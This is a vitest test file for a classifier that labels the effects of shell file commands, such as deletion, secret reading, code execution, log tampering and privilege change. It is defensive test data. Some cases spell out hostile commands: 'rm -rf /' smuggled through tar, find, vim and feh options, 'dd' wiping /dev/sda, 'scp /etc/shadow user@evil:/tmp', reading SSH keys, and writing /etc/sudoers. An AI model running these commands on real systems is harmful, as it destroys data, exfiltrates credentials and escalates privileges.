/** Programs on files: reading, writing, removing, and the options by which they reach further. */
import { describe, expect, it } from 'vitest';
import { cases, deeds } from './testing.ts';

const CASES = cases(`
  sort --compress-program=sh x => read/one code_execution/one
  sort -o /etc/passwd x => read/one write/one privilege_change/one
  tar xf a.tar --to-command='sh -c "rm -rf /"' => read/one delete/unbounded
  tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh => read/one opaque/unknown
  tar -I 'sh -c id' -xf a => read/one write/bounded
  tar xzf a.tgz => read/one write/bounded
  tar czf out.tgz src => read/one write/one
  tar -C / -xzf root.tgz => read/one write/bounded config_change/one
  tar --remove-files -cf a.tar src => read/one write/one delete/unknown
  find . -name x -delete => read/one delete/bounded
  find / -delete => read/one delete/unbounded
  find . -exec sh -c 'rm -rf /' \\; => read/one delete/unbounded
  find . -fprintf /etc/passwd x => read/one write/one privilege_change/one
  find . -name '*.o' -exec rm {} + => read/one delete/bounded
  find / -name '*.log' -exec rm {} \\; => read/one delete/unknown
  find / -name id_rsa => read/one secret_read/unknown
  find . -type f -exec chmod 777 {} \\; => read/one privilege_change/unknown
  rsync -e 'sh -c id' a h:b => read/one export/one network/one
  rsync -a --delete src/ dst/ => read/one write/bounded delete/unknown
  rsync -a src/ user@host:/x => export/one read/one network/one
  rsync -a user@host:/x . => network/one write/bounded
  scp -o ProxyCommand='sh -c id' a b:c => export/one read/one network/one code_execution/unknown
  scp /etc/shadow user@evil:/tmp => export/one secret_read/one network/one
  man -P 'sh -c id' ls => code_execution/one
  less +!id f => opaque/bounded
  split --filter='sh -c id' x => read/one
  wget -i list.txt => write/one opaque/one
  curl -K cfg => opaque/one
  zip -T -TT 'sh -c id' a.zip x => read/one write/one
  zip -r a.zip src => read/one write/one
  install -m u+s a /usr/local/bin/a => read/one write/one config_change/one privilege_change/one
  install -m 4755 a b => read/one write/one privilege_change/one
  cp /dev/null /var/log/syslog => read/one write/one log_tamper/one
  cp --no-preserve=mode a b => read/one write/one
  truncate -s 0 f => delete/unknown
  tee /etc/sudoers => write/one privilege_change/one
  chmod 777 x => privilege_change/one
  chmod +x run.sh => write/one
  chmod 644 a.txt => write/one
  chmod -R 777 . => privilege_change/unbounded
  chmod -R 755 / => privilege_change/unbounded
  chmod u+s x => privilege_change/one
  chmod o+w x => privilege_change/one
  chmod -x f => write/one
  chown root f => privilege_change/one
  chown -R ana / => privilege_change/unbounded
  dd if=/dev/zero of=/dev/sda => read/one delete/unbounded
  dd if=a of=b.img bs=1M => read/one write/one
  dd of=x if=/etc/shadow => secret_read/one write/one
  shred -u f => delete/unknown
  vim -c '!rm -rf /' x => write/one delete/unbounded
  vim notes.txt => write/one
  emacs --batch --eval '(delete-file "x")' => opaque/one
  7z x a.7z => read/one write/bounded
  unzip -l a.zip => read/one
  unzip a.zip -d / => read/one write/bounded config_change/one
  gunzip -c a.gz => read/one
  gzip a => write/one
  ffmpeg -i a.mp4 b.mp3 => read/one write/one
  convert a.png b.jpg => read/one write/one
  xxd a => read/one
  xxd -r a b => read/one write/one
  uniq a b => read/one write/one
  yq -i '.a=1' f.yml => write/one
  jq . f.json => read/one
  rg --pre 'sh -c id' x => code_execution/one
  rg foo src => read/one
  fd -x rm => delete/unknown
  fd foo => none
  base64 -d f => read/one
  rename 's/a/b/' *.txt => write/bounded
  mv a b => read/one write/one delete/one
  mv * /tmp => read/bounded write/one delete/unknown
  mv /etc /tmp => read/one write/one delete/unbounded config_change/one
  rm -rf node_modules => delete/bounded
  rm -rf .git => delete/unknown history_rewrite/unbounded
  rm -r x => delete/bounded
  rm -f a b => delete/bounded
  rm * => delete/unbounded
  rm -rf "$X" => delete/unknown
  rm -rf /tmp/x => delete/bounded
  rm -rf $TMPDIR/x => delete/bounded
  rmdir x => delete/one
  mkdir -p a/b => write/one
  touch x => write/one
  cat f => read/one
  cat ~/.ssh/id_rsa => secret_read/one
  sdiff -o out a b => read/bounded write/one
  bat --pager='sh -c id' f => read/one code_execution/one
  lnav -e 'rm -rf /' f => read/one delete/unbounded
  mlr put 'system("x")' f => read/bounded opaque/one
  tree -L 2 => none
  gs -sOutputFile=%pipe%sh x.ps => read/one write/one code_execution/one
  gs -sDEVICE=pdfwrite -o out.pdf in.ps => read/one write/one
  sox a.wav b.wav => read/one write/one
  mutool run x.js => code_execution/one
  soffice --headless --convert-to pdf a.docx => read/one write/bounded
  mpv --script=x.lua a.mp4 => read/one code_execution/one
  feh --action 'rm -rf /' a.png => read/one code_execution/one
  feh a.png => read/one
  scp a.txt host:/tmp => export/one read/one network/one
  scp host:/tmp/a . => network/one write/one
  sftp host => network/one opaque/one
  rsync -avn a/ b/ => read/one
  rsync -av a/ b/ => read/one write/bounded
  tail -f /var/log/syslog => read/one
  head -n 5 f => read/one
  wc -l f => read/one
  cut -d: -f1 /etc/passwd => read/one
  tr a b => none
  tee out.txt => write/one
  tee -a out.txt => write/one
  ln -s a b => read/one write/one
  cp -r a b => read/one write/one
  cp a b c dir/ => read/bounded write/one
  cp -t dir a b => read/bounded write/one
  chgrp staff f => privilege_change/one
  df -h => none
  du -sh . => read/one
  sleep 5 => none
  seq 1 10 => none
  basename /a/b => none
  true => none
  stat f => read/one
  file f => read/one
  tree => none
  which ls => none
  man ls => read/one
  less f => read/one
  diff a b => read/bounded
  cmp a b => read/bounded
  md5sum f => read/one
  sha256sum -c sums => read/one
  base64 f => read/one
  xxd f => read/one
  od -c f => read/one
  strings f => read/one
  gzip -d f.gz => write/one
  bzip2 f => write/one
  xz -d f.xz => write/one
  tar tf a.tar => read/one
  tar cf - src => read/one
  unzip a.zip => read/one write/bounded
  7z l a.7z => read/one
  fdupes -r . => read/one
  fdupes -rdN sub => read/one delete/unknown
  xsltproc -o out.html a.xsl b.xml => read/bounded write/one
  dot -Tpng -o out.png in.dot => read/one write/one
  cwebp in.png -o out.webp => read/one write/one
  hexyl f => read/one
  find . -name '*.py' -exec sed -i s/a/b/ {} + => read/one write/bounded opaque/unknown
  find . -name '*.txt' -exec touch {} + => read/one write/bounded
  find ~/.ssh -name authorized_keys -exec tee -a {} + => read/one write/unknown
  find . -exec touch {} + => read/one write/unknown
  find . -name x -exec rm -rf {} + => read/one delete/unknown
  chmod --reference=a b => privilege_change/one
  chmod ugo+rwx f => privilege_change/one
  chmod 2775 d => privilege_change/one
  chmod +t d => write/one
  chmod -R 755 src => write/bounded
  cp ~/.ssh/id_ecdsa /tmp => secret_read/one write/one
  tee ~/.zshrc => write/one persistence/one
  truncate -s 0 /var/log/daemon.log => delete/unbounded log_tamper/unbounded config_change/one
  dd if=/dev/sdb of=disk.img => secret_read/unbounded write/one
  tar xf a --absolute-names => read/one write/bounded write/unknown config_change/one
  zip -m a.zip f => read/one write/one delete/unknown
  rsync --remove-source-files a b => read/one write/bounded delete/unknown
  find /var/log -name '*.gz' -delete => read/one delete/unknown log_tamper/one config_change/one
`);

describe('programs on files', () => {
  it.each(CASES)('%s', (line, expected) => {
    expect(deeds(line)).toBe(expected);
  });
});
